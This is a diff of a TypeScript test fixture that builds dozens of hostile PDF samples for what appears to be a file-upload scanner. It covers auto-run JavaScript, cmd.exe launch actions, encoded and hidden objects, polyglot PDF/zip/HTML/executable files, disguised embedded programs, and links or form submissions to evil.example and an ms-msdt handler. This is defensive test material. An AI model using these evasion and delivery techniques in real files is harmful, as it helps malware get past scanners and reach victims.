@@ -1,148 +1,128 @@
 import { deflateSync } from 'node:zlib';
-import { packedPdf } from './packed-pdf';
-import { makePdf, stream } from './pdf';
-import { exe, plainZip, png } from './plain';
-import { type Row, rows } from './row';
-import { opening, packedScript } from './script-pdf';
+import { PDFDocument } from '@cantoo/pdf-lib';
+import { ENCODINGS, packedPdf, updatedPdf } from './packed-pdf';
+import { attaching, linking, makePdf, opening, pdfWith, stream, xfa } from './pdf';
+import { exe, plainZip } from './plain';
+import { rows } from './row';
 
-const runs = rows('pdf', 'executable');
-const leads = rows('pdf', 'outside');
-const carries = rows('pdf', 'attachments');
-const bursts = rows('pdf', 'too-expanded');
-const breaks = rows('pdf', 'damaged');
+const SCRIPT = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
+const opens = '/OpenAction 10 0 R';
+const packedScript = { catalog: opens, objects: { 10: SCRIPT } };
+const program = Buffer.concat([exe, Buffer.alloc(99)]);
+const PACKED_FILE = '/Type/EmbeddedFile/Filter/FlateDecode';
+const widget = `<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/AA<</F ${SCRIPT}>>>>`;
 
-const attached = (name: string, content: string | Buffer, about = '/Type/EmbeddedFile') =>
-  makePdf({
-    catalog: `/Names<</EmbeddedFiles<</Names[(a) 10 0 R]>>>>`,
-    objects: { 10: `<</Type/Filespec/F(${name})/UF(${name})/EF<</F 11 0 R>>>>`, 11: stream(content, about) },
-  });
-const xfa = (template: string) =>
-  makePdf({
-    catalog: '/AcroForm<</Fields[]/XFA[(template) 10 0 R]>>',
-    objects: {
-      10: stream(`<template xmlns="http://www.xfa.org/schema/xfa-template/3.0/">${template}</template>`),
-    },
-  });
+/** A script that runs on opening, in a file of which only the owner's password is set. */
+async function encrypted(): Promise<Buffer> {
+  const document = await PDFDocument.load(opening(SCRIPT));
+  document.encrypt({ ownerPassword: 'owner', userPassword: '' });
+  return Buffer.from(await document.save({ useObjectStreams: true }));
+}
 
-const linkTo = (target: string) =>
-  makePdf({ page: `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(${target})>>>>]` });
+/** An object within another one's stream, where only the table leads. */
+function hidden(): Buffer {
+  const parts = { catalog: opens, objects: { 9: stream(`10 0 obj ${SCRIPT} endobj`) } };
+  return makePdf({ ...parts, lies: { 10: makePdf(parts).indexOf('10 0 obj') } });
+}
 
-export const harmfulPdfs: Row[] = [
-  // Other actions.
-  runs('a launch', opening('<</S/Launch/F(cmd.exe)>>')),
-  runs('a launch of Windows', opening('<</S/L#61unch/Win<</F(cmd.exe)/P(/c calc)>>>>')),
-  runs(
-    'a launch from packed objects',
-    packedPdf({ catalog: '/OpenAction 10 0 R', objects: { 10: '<</S/Launch/F(cmd.exe)>>' } }),
+/** Scripts, wherever they hang and however they are written. */
+const scripts = rows('pdf', 'executable', {
+  'a script on opening': opening(SCRIPT),
+  'a script in a stream': makePdf({
+    catalog: opens,
+    objects: { 10: '<</S/JavaScript/JS 11 0 R>>', 11: stream('app.alert(1)') },
+  }),
+  'a script by name': pdfWith(SCRIPT, '/Names<</JavaScript<</Names[(a) 10 0 R]>>>>'),
+  'a script when the page opens': makePdf({ page: `/AA<</O ${SCRIPT}>>` }),
+  'a script when the document closes': makePdf({ catalog: `/AA<</WC ${SCRIPT}>>` }),
+  'a script behind a link': linking(SCRIPT),
+  'a script in a link': linking('<</S/URI/URI( JavaScript:alert\\(1\\))>>'),
+  'a script that formats a field': makePdf({ page: '/Annots[10 0 R]', objects: { 10: widget } }),
+  'a script behind a bookmark': pdfWith(`<</First<</Title(a)/A ${SCRIPT}>>/Count 1>>`, '/Outlines 10 0 R'),
+  'a script after a step within': makePdf({ catalog: `/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next ${SCRIPT}>>` }),
+  'a script of a rendition': opening('<</S/Rendition/OP 0/JS(app.alert\\(1\\))>>'),
+  'a script of a 3D model': pdfWith(stream('', '/Type/3D/Subtype/U3D/OnInstantiate 11 0 R')),
+  'a script, spelt in code': opening('<</#53/J#61vaScript/J#53(app.alert\\(1\\))>>'),
+  'a script of an indirect kind': makePdf({
+    catalog: opens,
+    objects: { 10: '<</S 11 0 R/JS 12 0 R>>', 11: '/JavaScript', 12: '(app.alert\\(1\\))' },
+  }),
+  'a script between comments': opening('<<%>>\n/S%(\n/JavaScript%endobj\n/JS(app.alert\\(1\\))>>'),
+  'a script behind a text with an end': opening('<</T(endobj stream 1 0 obj)/S/JavaScript/JS(app)>>'),
+  'a script in hexadecimal': opening('<</S/JavaScript/JS<6170702E616C6572742831293B>>>'),
+  'a script behind an unfinished text': opening('<</S/JavaScript/JS(app.alert\\(1\\))/T(>>'),
+  'a script behind words that do not belong': opening('<</T 1 2 3/S/JavaScript/JS(app)>>'),
+  'a script right behind its number': Buffer.from(
+    opening(SCRIPT).toString('latin1').replace('10 0 obj\n', '10 0 obj'),
+    'latin1',
   ),
-  runs('an import of data', opening('<</S/ImportData/F(a.fdf)>>')),
-  runs('a film', makePdf({ page: '/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]' })),
-  leads('a step into another file', opening('<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)/D[0/Fit]>>')),
-  leads('a step into an embedded file', opening('<</S/GoToE/T<</R/C/N(a.pdf)>>/D[0/Fit]>>')),
-  leads('a form that is sent', opening('<</S/SubmitForm/F<</FS/URL/F(https://evil.example)>>>>')),
-  leads('an address visited on opening', opening('<</S/URI/URI(https://evil.example)>>')),
-  leads(
-    'an address visited after other steps',
-    makePdf({
-      catalog: '/OpenAction 10 0 R',
+  'a script in a later version': updatedPdf({}, `<</Type/Catalog/Pages 2 0 R/OpenAction ${SCRIPT}>>`),
+  'a script in an earlier version': updatedPdf(packedScript, '<</Type/Catalog/Pages 2 0 R>>'),
+  'a script that only the table finds': hidden(),
+  'a script that only a search finds': makePdf({ ...packedScript, noTable: true }),
+  'a script in the trailer': makePdf({ trailer: `/Info<</A ${SCRIPT}>>` }),
+  ...Object.fromEntries(
+    Object.keys(ENCODINGS).map((encoding) => [
+      `a script packed by ${encoding}`,
+      packedPdf(packedScript, { encoding }),
+    ]),
+  ),
+  'a script in a stream of no type': packedPdf(packedScript, { type: '/Other' }),
+  'a script in a stream of a type in code': packedPdf(packedScript, { type: '/Obj#53tm' }),
+  'a script in a file with an owner password': encrypted,
+});
+
+export const harmfulPdfs = [
+  ...scripts,
+  ...rows('pdf', 'executable', {
+    'a launch': opening('<</S/Launch/F(cmd.exe)>>'),
+    'a launch of Windows': opening('<</S/L#61unch/Win<</F(cmd.exe)/P(/c calc)>>>>'),
+    'a launch behind what looks like an object': opening('<</S%1 0 obj\n/Launch/F(cmd.exe)>>'),
+    'a launch of an indirect kind': makePdf({ objects: { 10: '<</S 11 0 R/F(cmd.exe)>>', 11: '/Launch' } }),
+    'a launch from packed objects': packedPdf({ objects: { 10: '<</S/Launch/F(cmd.exe)>>' } }),
+    'an import of data': opening('<</S/ImportData/F(a.fdf)>>'),
+    'a film': makePdf({ page: '/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]' }),
+    'a link to a program': linking('<</S/URI/URI(file:///C:/Windows/System32/calc.exe)>>'),
+    'a link to another computer': linking('<</S/URI/URI(file://evil.example/cv)>>'),
+    'a link to a command': linking('<</S/URI/URI(ms-msdt:/id PCWDiagnostic)>>'),
+    'a form with a script': xfa(
+      '<field name="a"><event activity="initialize"><script>1</script></event></field>',
+    ),
+    'a form with a script of another prefix': xfa('<x:script xmlns:x="x">1</x:script>'),
+    // Files of two kinds.
+    'a PDF that ends as zip': Buffer.concat([makePdf(), plainZip]),
+    'a PDF that ends as zip with a comment': Buffer.concat([makePdf(), plainZip, Buffer.alloc(60_000)]),
+    'a PDF that is a web page as well': makePdf({ before: '<html><script>alert(1)</script>' }),
+    'a PDF that is a script as well': makePdf({ before: '#!/bin/sh\n' }),
+    'a program before a PDF': makePdf({ before: exe }),
+    'a PDF around a program': pdfWith(stream('MZ This program cannot be run in DOS mode')),
+  }),
+  ...rows('pdf', 'outside', {
+    'a step into another file': opening('<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)/D[0/Fit]>>'),
+    'a step into an embedded file': opening('<</S/GoToE/T<</R/C/N(a.pdf)>>/D[0/Fit]>>'),
+    'a form that is sent': opening('<</S/SubmitForm/F<</FS/URL/F(https://evil.example)>>>>'),
+    'an address visited on opening': opening('<</S/URI/URI(https://evil.example)>>'),
+    'an address visited when the page opens': makePdf({
+      page: '/AA<</O<</S/URI/URI(https://evil.example)>>>>',
+    }),
+    'an address visited after other steps': makePdf({
+      catalog: opens,
       objects: {
         10: '<</S/GoTo/D[3 0 R/Fit]/Next[11 0 R 12 0 R]>>',
         11: '<</S/Named/N/Print/Next 10 0 R>>',
         12: '<</S/URI/URI(https://evil.example)>>',
       },
     }),
-  ),
-  leads(
-    'a content that is elsewhere',
-    makePdf({ objects: { 4: '<</F(\\\\\\\\evil.example\\\\a)/Length 0>>\nstream\n\nendstream' } }),
-  ),
-  runs('a link to a program', linkTo('file:///C:/Windows/System32/calc.exe')),
-  runs('a link to another computer', linkTo('file://evil.example/cv')),
-  runs('a link to a command', linkTo('ms-msdt:/id PCWDiagnostic')),
-  // Forms of XFA.
-  runs(
-    'a form with a script',
-    xfa('<subform><field name="a"><event activity="initialize"><script>1</script></event></field></subform>'),
-  ),
-  runs(
-    'a form with a script of another prefix',
-    xfa('<x:script xmlns:x="http://www.xfa.org/schema/xfa-template/3.0/">1</x:script>'),
-  ),
-  // Files within.
-  carries('an attached program', attached('cv.exe', exe)),
-  carries(
-    'an attached program, named as a picture',
-    attached('cv.png', Buffer.concat([exe, Buffer.alloc(99)])),
-  ),
-  carries(
-    'an attached program, packed',
-    attached(
-      'cv.png',
-      deflateSync(Buffer.concat([exe, Buffer.alloc(99)])),
-      '/Type/EmbeddedFile/Filter/FlateDecode',
-    ),
-  ),
-  carries(
-    'an attached document',
-    attached('cv.docm', deflateSync(plainZip), '/Type/EmbeddedFile/Filter/FlateDecode'),
-  ),
-  carries(
-    'an attached page of script',
-    attached(
-      'cv.xml',
-      deflateSync('<html><script>alert(1)</script></html>'),
-      '/Type/EmbeddedFile/Filter/FlateDecode',
-    ),
-  ),
-  carries('an attachment without a type', attached('cv.js', 'alert(1)', '')),
-  carries('a portfolio', makePdf({ catalog: '/Collection<</View/T>>' })),
-  // Files of two kinds.
-  runs('a PDF that ends as zip', Buffer.concat([makePdf(), plainZip])),
-  runs('a PDF that ends as zip with a comment', Buffer.concat([makePdf(), plainZip, Buffer.alloc(60_000)])),
-  runs('a PDF that is a web page as well', makePdf({ before: '<html><script>alert(1)</script>' })),
-  runs('a PDF that is a script as well', makePdf({ before: '#!/bin/sh\n' })),
-  runs('a program before a PDF', makePdf({ before: exe })),
-  runs(
-    'a PDF around a program',
-    makePdf({ objects: { 10: stream('MZ This program cannot be run in DOS mode') } }),
-  ),
-  rows('pdf', 'wrong-type', 'picture')('a picture before a PDF', makePdf({ before: png })),
-  // Bombs.
-  bursts('a bomb of packed objects', () => packedPdf({ objects: { 10: ' '.repeat(20_000_000) } })),
-  bursts('a bomb of many streams', () =>
-    makePdf({
-      objects: Object.fromEntries(
-        Array.from({ length: 12 }, (_, n) => [
-          10 + n,
-          stream(deflateSync(Buffer.alloc(3_000_000, 32)), '/Type/ObjStm/N 0/First 0/Filter/FlateDecode'),
-        ]),
-      ),
-    }),
-  ),
-  bursts('a bomb within a bomb', () =>
-    makePdf({
-      objects: {
-        10: stream(
-          deflateSync(deflateSync(Buffer.alloc(100_000_000))),
-          '/Type/ObjStm/N 1/First 9/Filter[/FlateDecode/FlateDecode]',
-        ),
-      },
-    }),
-  ),
-  bursts('a bomb of many objects', () =>
-    Buffer.concat([makePdf(), Buffer.from('1 0 obj 1 endobj '.repeat(110_000))]),
-  ),
-  // What cannot be looked into.
-  breaks(
-    'packed objects that cannot be unpacked',
-    packedPdf(packedScript, { change: (packed) => packed.fill(0xff, 2) }),
-  ),
-  breaks(
-    'objects packed as no program does',
-    packedPdf({ objects: { 10: '<</Type/Annot>>' } }, { encoding: 'hexadecimal' }),
-  ),
-  breaks(
-    'packed objects in a picture',
-    makePdf({ objects: { 10: stream('x', '/Type/ObjStm/N 1/First 9/Filter/DCTDecode') } }),
-  ),
+    'a content that is elsewhere': pdfWith('<</F(\\\\\\\\evil.example\\\\a)/Length 0>>\nstream\n\nendstream'),
+  }),
+  ...rows('pdf', 'attachments', {
+    'an attached program': attaching('cv.exe', exe),
+    'an attached program, named as a picture': attaching('cv.png', program),
+    'an attached program, packed': attaching('cv.png', deflateSync(program), PACKED_FILE),
+    'an attached program that nothing names': pdfWith(stream(program, '/Type/EmbeddedFile')),
+    'an attached document': attaching('cv.docm', deflateSync(plainZip), PACKED_FILE),
+    'an attached page of script': attaching('cv.xml', deflateSync('<script>alert(1)</script>'), PACKED_FILE),
+    'an attachment without a type': attaching('cv.js', 'alert(1)', ''),
+    'a portfolio': makePdf({ catalog: '/Collection<</View/T>>' }),
+  }),
 ];
